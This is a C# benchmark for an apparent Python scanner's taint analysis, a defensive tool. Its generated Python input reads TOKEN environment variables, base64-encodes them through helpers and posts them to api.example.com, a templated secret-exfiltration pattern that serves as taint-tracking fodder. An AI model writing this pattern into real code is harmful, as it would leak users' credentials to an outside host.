using System.Text;
using BenchmarkDotNet.Attributes;
using PyGuard.Engine.Policies;
using PyGuard.Semantics;
using PyGuard.Syntax;
using PyGuard.Syntax.Tree;

namespace PyGuard.Benchmarks;

/// <summary>
/// What taint tracking costs on top of the semantic model it reads: the model alone, the model with the
/// taint analysis solved and every call argument queried (more than the rules ask), and a whole scan.
/// The input is generated: classes, helpers and module code that read the environment, build payloads
/// through helper functions and class members, and send them, so that every location is tainted.
/// <c>dotnet run -c Release --project bench/PyGuard.Benchmarks -- --filter '*TaintAnalysis*'</c>
/// </summary>
[MemoryDiagnoser]
public class TaintAnalysisBenchmarks
{
    private SyntaxTree _tree = null!;
    private string _source = string.Empty;
    private List<ExprCall> _calls = [];
    private PythonScanner _scanner = null!;

    /// <summary>How many generated units (a helper, a class and the module code using them; 20 lines each).</summary>
    [Params(100, 1000)]
    public int Units { get; set; }

    [GlobalSetup]
    public void Setup()
    {
        _source = Generate(Units);
        _tree = PythonParser.Parse(_source, new ParseOptions { Version = PythonVersion.Python314 }).Tree
            ?? throw new InvalidOperationException("the generated code does not parse");
        _calls = [];
        new CallCollector(_calls).Visit(_tree.Root);
        _scanner = new PythonScanner(Policy.Agent);
    }

    [Benchmark(Baseline = true)]
    public SemanticModel Model() => SemanticModel.Build(_tree);

    [Benchmark]
    public int ModelAndTaint()
    {
        var model = SemanticModel.Build(_tree);
        var tainted = 0;
        foreach (var call in _calls)
        {
            foreach (var argument in call.Args)
            {
                tainted += model.DataFlow.TaintOf(argument).Items.Length;
            }
        }

        return tainted;
    }

    [Benchmark]
    public object Scan() => _scanner.Scan(_source, "generated.py");

    private static string Generate(int units)
    {
        var code = new StringBuilder("import os, json, base64, requests\nfrom pathlib import Path\n");
        for (var i = 0; i < units; i++)
        {
            code.Append($$"""

                def helper_{{i}}(value, extra=None):
                    data = {"k": value, "n": {{i}}}
                    text = json.dumps(data)
                    if extra:
                        text += str(extra)
                    return base64.b64encode(text.encode()).decode()

                class Box{{i}}:
                    label = "box{{i}}"
                    def __init__(self, payload):
                        self.payload = payload
                    def send(self):
                        body = helper_{{i}}(self.payload, self.label)
                        requests.post("https://api.example.com/{{i}}", data=body, timeout=5)

                token_{{i}} = os.environ.get("TOKEN_{{i}}", "")
                path_{{i}} = Path("output") / "part{{i}}.txt"
                path_{{i}}.write_text(helper_{{i}}("const"))
                Box{{i}}(token_{{i}} if {{i}} % 7 == 0 else "public").send()

                """);
        }

        return code.ToString();
    }

    private sealed class CallCollector(List<ExprCall> calls) : NodeWalker
    {
        public override void VisitExprCall(ExprCall node)
        {
            calls.Add(node);
            base.VisitExprCall(node);
        }
    }
}
